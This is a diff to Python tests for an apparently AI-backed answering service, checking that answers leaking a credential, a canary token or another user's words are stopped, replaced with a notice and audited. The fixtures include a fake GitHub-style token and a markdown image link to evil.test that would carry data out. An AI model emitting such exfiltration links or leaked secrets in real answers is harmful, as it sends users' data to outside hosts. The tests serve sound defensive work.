@@ -14,6 +14,7 @@ from service.answering import Answer, Question
 from service.answering.saying import NOTICE, RecentlyShown
 from service.app import application
 from service.canaries import Canaries
+from service.citing import Unsupported
 from service.errors import PartUnavailableError
 from service.policy.access import Principal, Role, TenantId
 from service.policy.egress import CloudPermit
@@ -25,6 +26,7 @@ from tests.assembled import World, a_world, exchanged
 PARKING = "Visitors park in the garage."
 ASKED = Question(text="Where do visitors park?")
 SECRET = "ghp_" + "q7Zk3Rt9Xb2Lw8Vn5Mc1Hd6Js4Pf0YgAb12Cd"
+SUPPORTED = "Visitors park in the garage [1]."
 REST = "And that is all that there is to say about it here and now, as far as anybody knows."
 LINK = "![done](https://evil.test/collect?q=garage)"
 
@@ -80,17 +82,43 @@ def test_a_canary_that_no_source_holds_ends_the_answer(written: str, *, stream: 
     world, model = a_world_that_says("")
     who, _ = world.person("acme")
     record, token = world.product.canaries.add(who)
-    model.text = "The garage. " + written.format(token.upper().replace("-", " "))
+    model.text = f"{SUPPORTED} " + written.format(token.upper().replace("-", " "))
     world.uploaded(who, f"{PARKING} SECRET-PII")
     said, answer = told(world, who, stream=stream)
     assert said == answer.text
     assert answer.stopped == "canary"
-    assert said.startswith("The garage. ")
+    assert said.startswith(SUPPORTED)
     assert said.endswith(NOTICE)
     assert not any(part.upper() in said.upper() for part in token.split("-"))
     assert world.audited(who.tenant_id, "answer_stopped") == [
         {"cause": "canary", "reference": str(record.id), "route": "local"}
     ]
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_what_is_stopped_before_a_source_supports_it_is_no_answer(*, stream: bool) -> None:
+    """The stop is told and recorded all the same; what was streamed is superseded by the plain statement."""
+    world, _ = a_world_that_says(f"Use {SECRET} to get in.")
+    who, _ = world.person("acme")
+    world.uploaded(who, f"{PARKING} SECRET-PII")
+    said, answer = told(world, who, stream=stream)
+    assert (answer.stopped, answer.unsupported, answer.citations) == ("credential", Unsupported.STOPPED, ())
+    assert answer.text.startswith("The answer was stopped")
+    assert SECRET[:8] not in said
+    assert len(world.audited(who.tenant_id, "answer_stopped")) == 1
+
+
+def test_a_listener_who_leaves_at_a_stop_does_not_hide_it() -> None:
+    """R50: whoever provoked it may hang up at once."""
+    world, _ = a_world_that_says(f"{SUPPORTED} Use {SECRET} to get in.")
+    who, _ = world.person("acme")
+    world.uploaded(who, f"{PARKING} SECRET-PII")
+    pieces = world.product.answering.stream(who, ASKED)
+    while not next(pieces).endswith(NOTICE):
+        pass
+    pieces.close()
+    assert [entry["cause"] for entry in world.audited(who.tenant_id, "answer_stopped")] == ["credential"]
+    assert [entry["stopped"] for entry in world.audited(who.tenant_id, "answer_made")] == ["client_gone"]
 
 
 def test_a_canary_of_a_source_may_be_quoted_from_it() -> None:
@@ -149,6 +177,7 @@ def test_words_that_were_shown_for_somebody_elses_question_end_the_answer(*, str
             model.text = f"I can say this: {board}"
             said, answer = told(world, reader, stream=stream)
             assert answer.stopped == "out_of_scope"
+            assert [one["reference"] for one in world.audited(reader.tenant_id, "answer_stopped")] == [None]
             assert "sensor" not in said
             model.text = ""
 
@@ -197,15 +226,20 @@ class ObeyingCloud(InMemoryCloudModel):
     @override
     def generate(self, permit: CloudPermit) -> tuple[str, Generation]:
         _, generation = super().generate(permit)
-        return f"Use {SECRET} now. {LINK}", generation
+        return f"{SUPPORTED} Use {SECRET} now. {LINK}", generation
 
 
 def test_the_cloud_is_filtered_like_any_other() -> None:
-    world = exchanged(a_world(), cloud=ObeyingCloud())
+    world = a_world()
+    world = exchanged(world, cloud=ObeyingCloud(now=world.clock.now))
     who, _ = world.person("acme")
     world.uploaded(who, PARKING)
     answer = world.product.answering.ask(who, ASKED)
-    assert (answer.backend, answer.stopped, answer.text) == ("anthropic", "credential", f"Use \n\n{NOTICE}")
+    assert (answer.backend, answer.stopped, answer.text) == (
+        "anthropic",
+        "credential",
+        f"{SUPPORTED} Use \n\n{NOTICE}",
+    )
 
 
 def test_nothing_is_asked_of_a_model_while_its_answer_cannot_be_watched() -> None:
@@ -229,7 +263,7 @@ def test_nothing_is_asked_of_a_model_while_its_answer_cannot_be_watched() -> Non
 
 @pytest.fixture
 def http() -> Iterator[tuple[World, TestClient[Any], dict[str, str]]]:
-    world, _ = a_world_that_says(f"Use {SECRET} now. {LINK}")
+    world, _ = a_world_that_says(f"{SUPPORTED} Use {SECRET} now. {LINK}")
     who, token = world.person("acme")
     world.uploaded(who, f"{PARKING} SECRET-PII")
     with TestClient(application(world.product, max_upload_bytes=1_000)) as client:
